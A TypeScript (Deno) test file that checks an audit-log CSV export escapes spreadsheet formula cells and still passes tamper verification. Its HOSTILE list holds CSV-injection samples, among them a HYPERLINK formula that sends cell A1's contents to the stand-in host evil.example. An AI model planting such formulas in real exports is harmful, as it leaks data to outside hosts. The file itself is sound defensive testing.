import assert from "node:assert/strict";
import { join } from "node:path";
import { tempBox } from "./_test_util.ts";
import { exportAuditToFile } from "./export.ts";
import { parseAuditCsv } from "./audit_csv.ts";
import { parseCsv } from "./csv.ts";
import { verifyAuditCsv } from "./verify_store.ts";

const opts = { sanitizeOps: true, sanitizeResources: true };

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1-555-0100",
  "-2+3",
  "@SUM(A1)",
  "\tcmd",
  "'=already escaped?",
  "''",
  "'plain quote",
];

Deno.test(
  "the audit export neutralises formula cells and still verifies (selrec audit verify --csv)",
  opts,
  async () => {
    await using box = await tempBox();
    for (const name of HOSTILE) {
      await box.audit.append({
        actor: { type: "user", id: null, name },
        action: "auth.sign_in",
        outcome: "failed",
        ip: "-1",
        details: { why: "unknown user" },
      });
    }
    const out = join(box.dir, "audit.csv");
    await exportAuditToFile(box.store.db, box.audit, out, {}, { type: "cli", name: "root" });
    const text = await Deno.readTextFile(out);
    assert.ok(text.includes(`'=HYPERLINK(`), "the formula is prefixed");
    for (const record of parseCsv(text)) {
      for (const cell of record) {
        assert.ok(cell === null || !/^[=+\-@\t\r]/.test(cell), `cell "${cell}" is a formula`);
      }
    }
    const rows = parseAuditCsv(text);
    const stored = (await box.store.db.selectFrom("audit_events").selectAll().orderBy("seq")
      .execute()).map((r) => ({ ...r }));
    assert.deepEqual(
      rows.map((r) => ({ ...r })),
      stored.slice(0, rows.length),
      "parsing restores the stored rows",
    );
    assert.deepEqual(rows.slice(0, HOSTILE.length).map((r) => r.actor_name), HOSTILE);
    const report = await verifyAuditCsv(out, { complete: true });
    assert.equal(report.ok, true, JSON.stringify(report.firstBroken));
    assert.equal(report.checked, HOSTILE.length);
  },
);

Deno.test("a neutralised cell edited to another value fails verification", opts, async () => {
  await using box = await tempBox();
  await box.audit.append({ actor: { type: "user", name: "=1+1" }, action: "auth.sign_in" });
  const out = join(box.dir, "audit.csv");
  await exportAuditToFile(box.store.db, box.audit, out, {}, { type: "cli", name: "root" });
  const text = await Deno.readTextFile(out);
  // One more quote is a different name ("'=1+1"), not a different escaping of the same one.
  await Deno.writeTextFile(out, text.replace("'=1+1", "''=1+1"));
  const report = await verifyAuditCsv(out, { complete: true });
  assert.equal(report.ok, false);
});
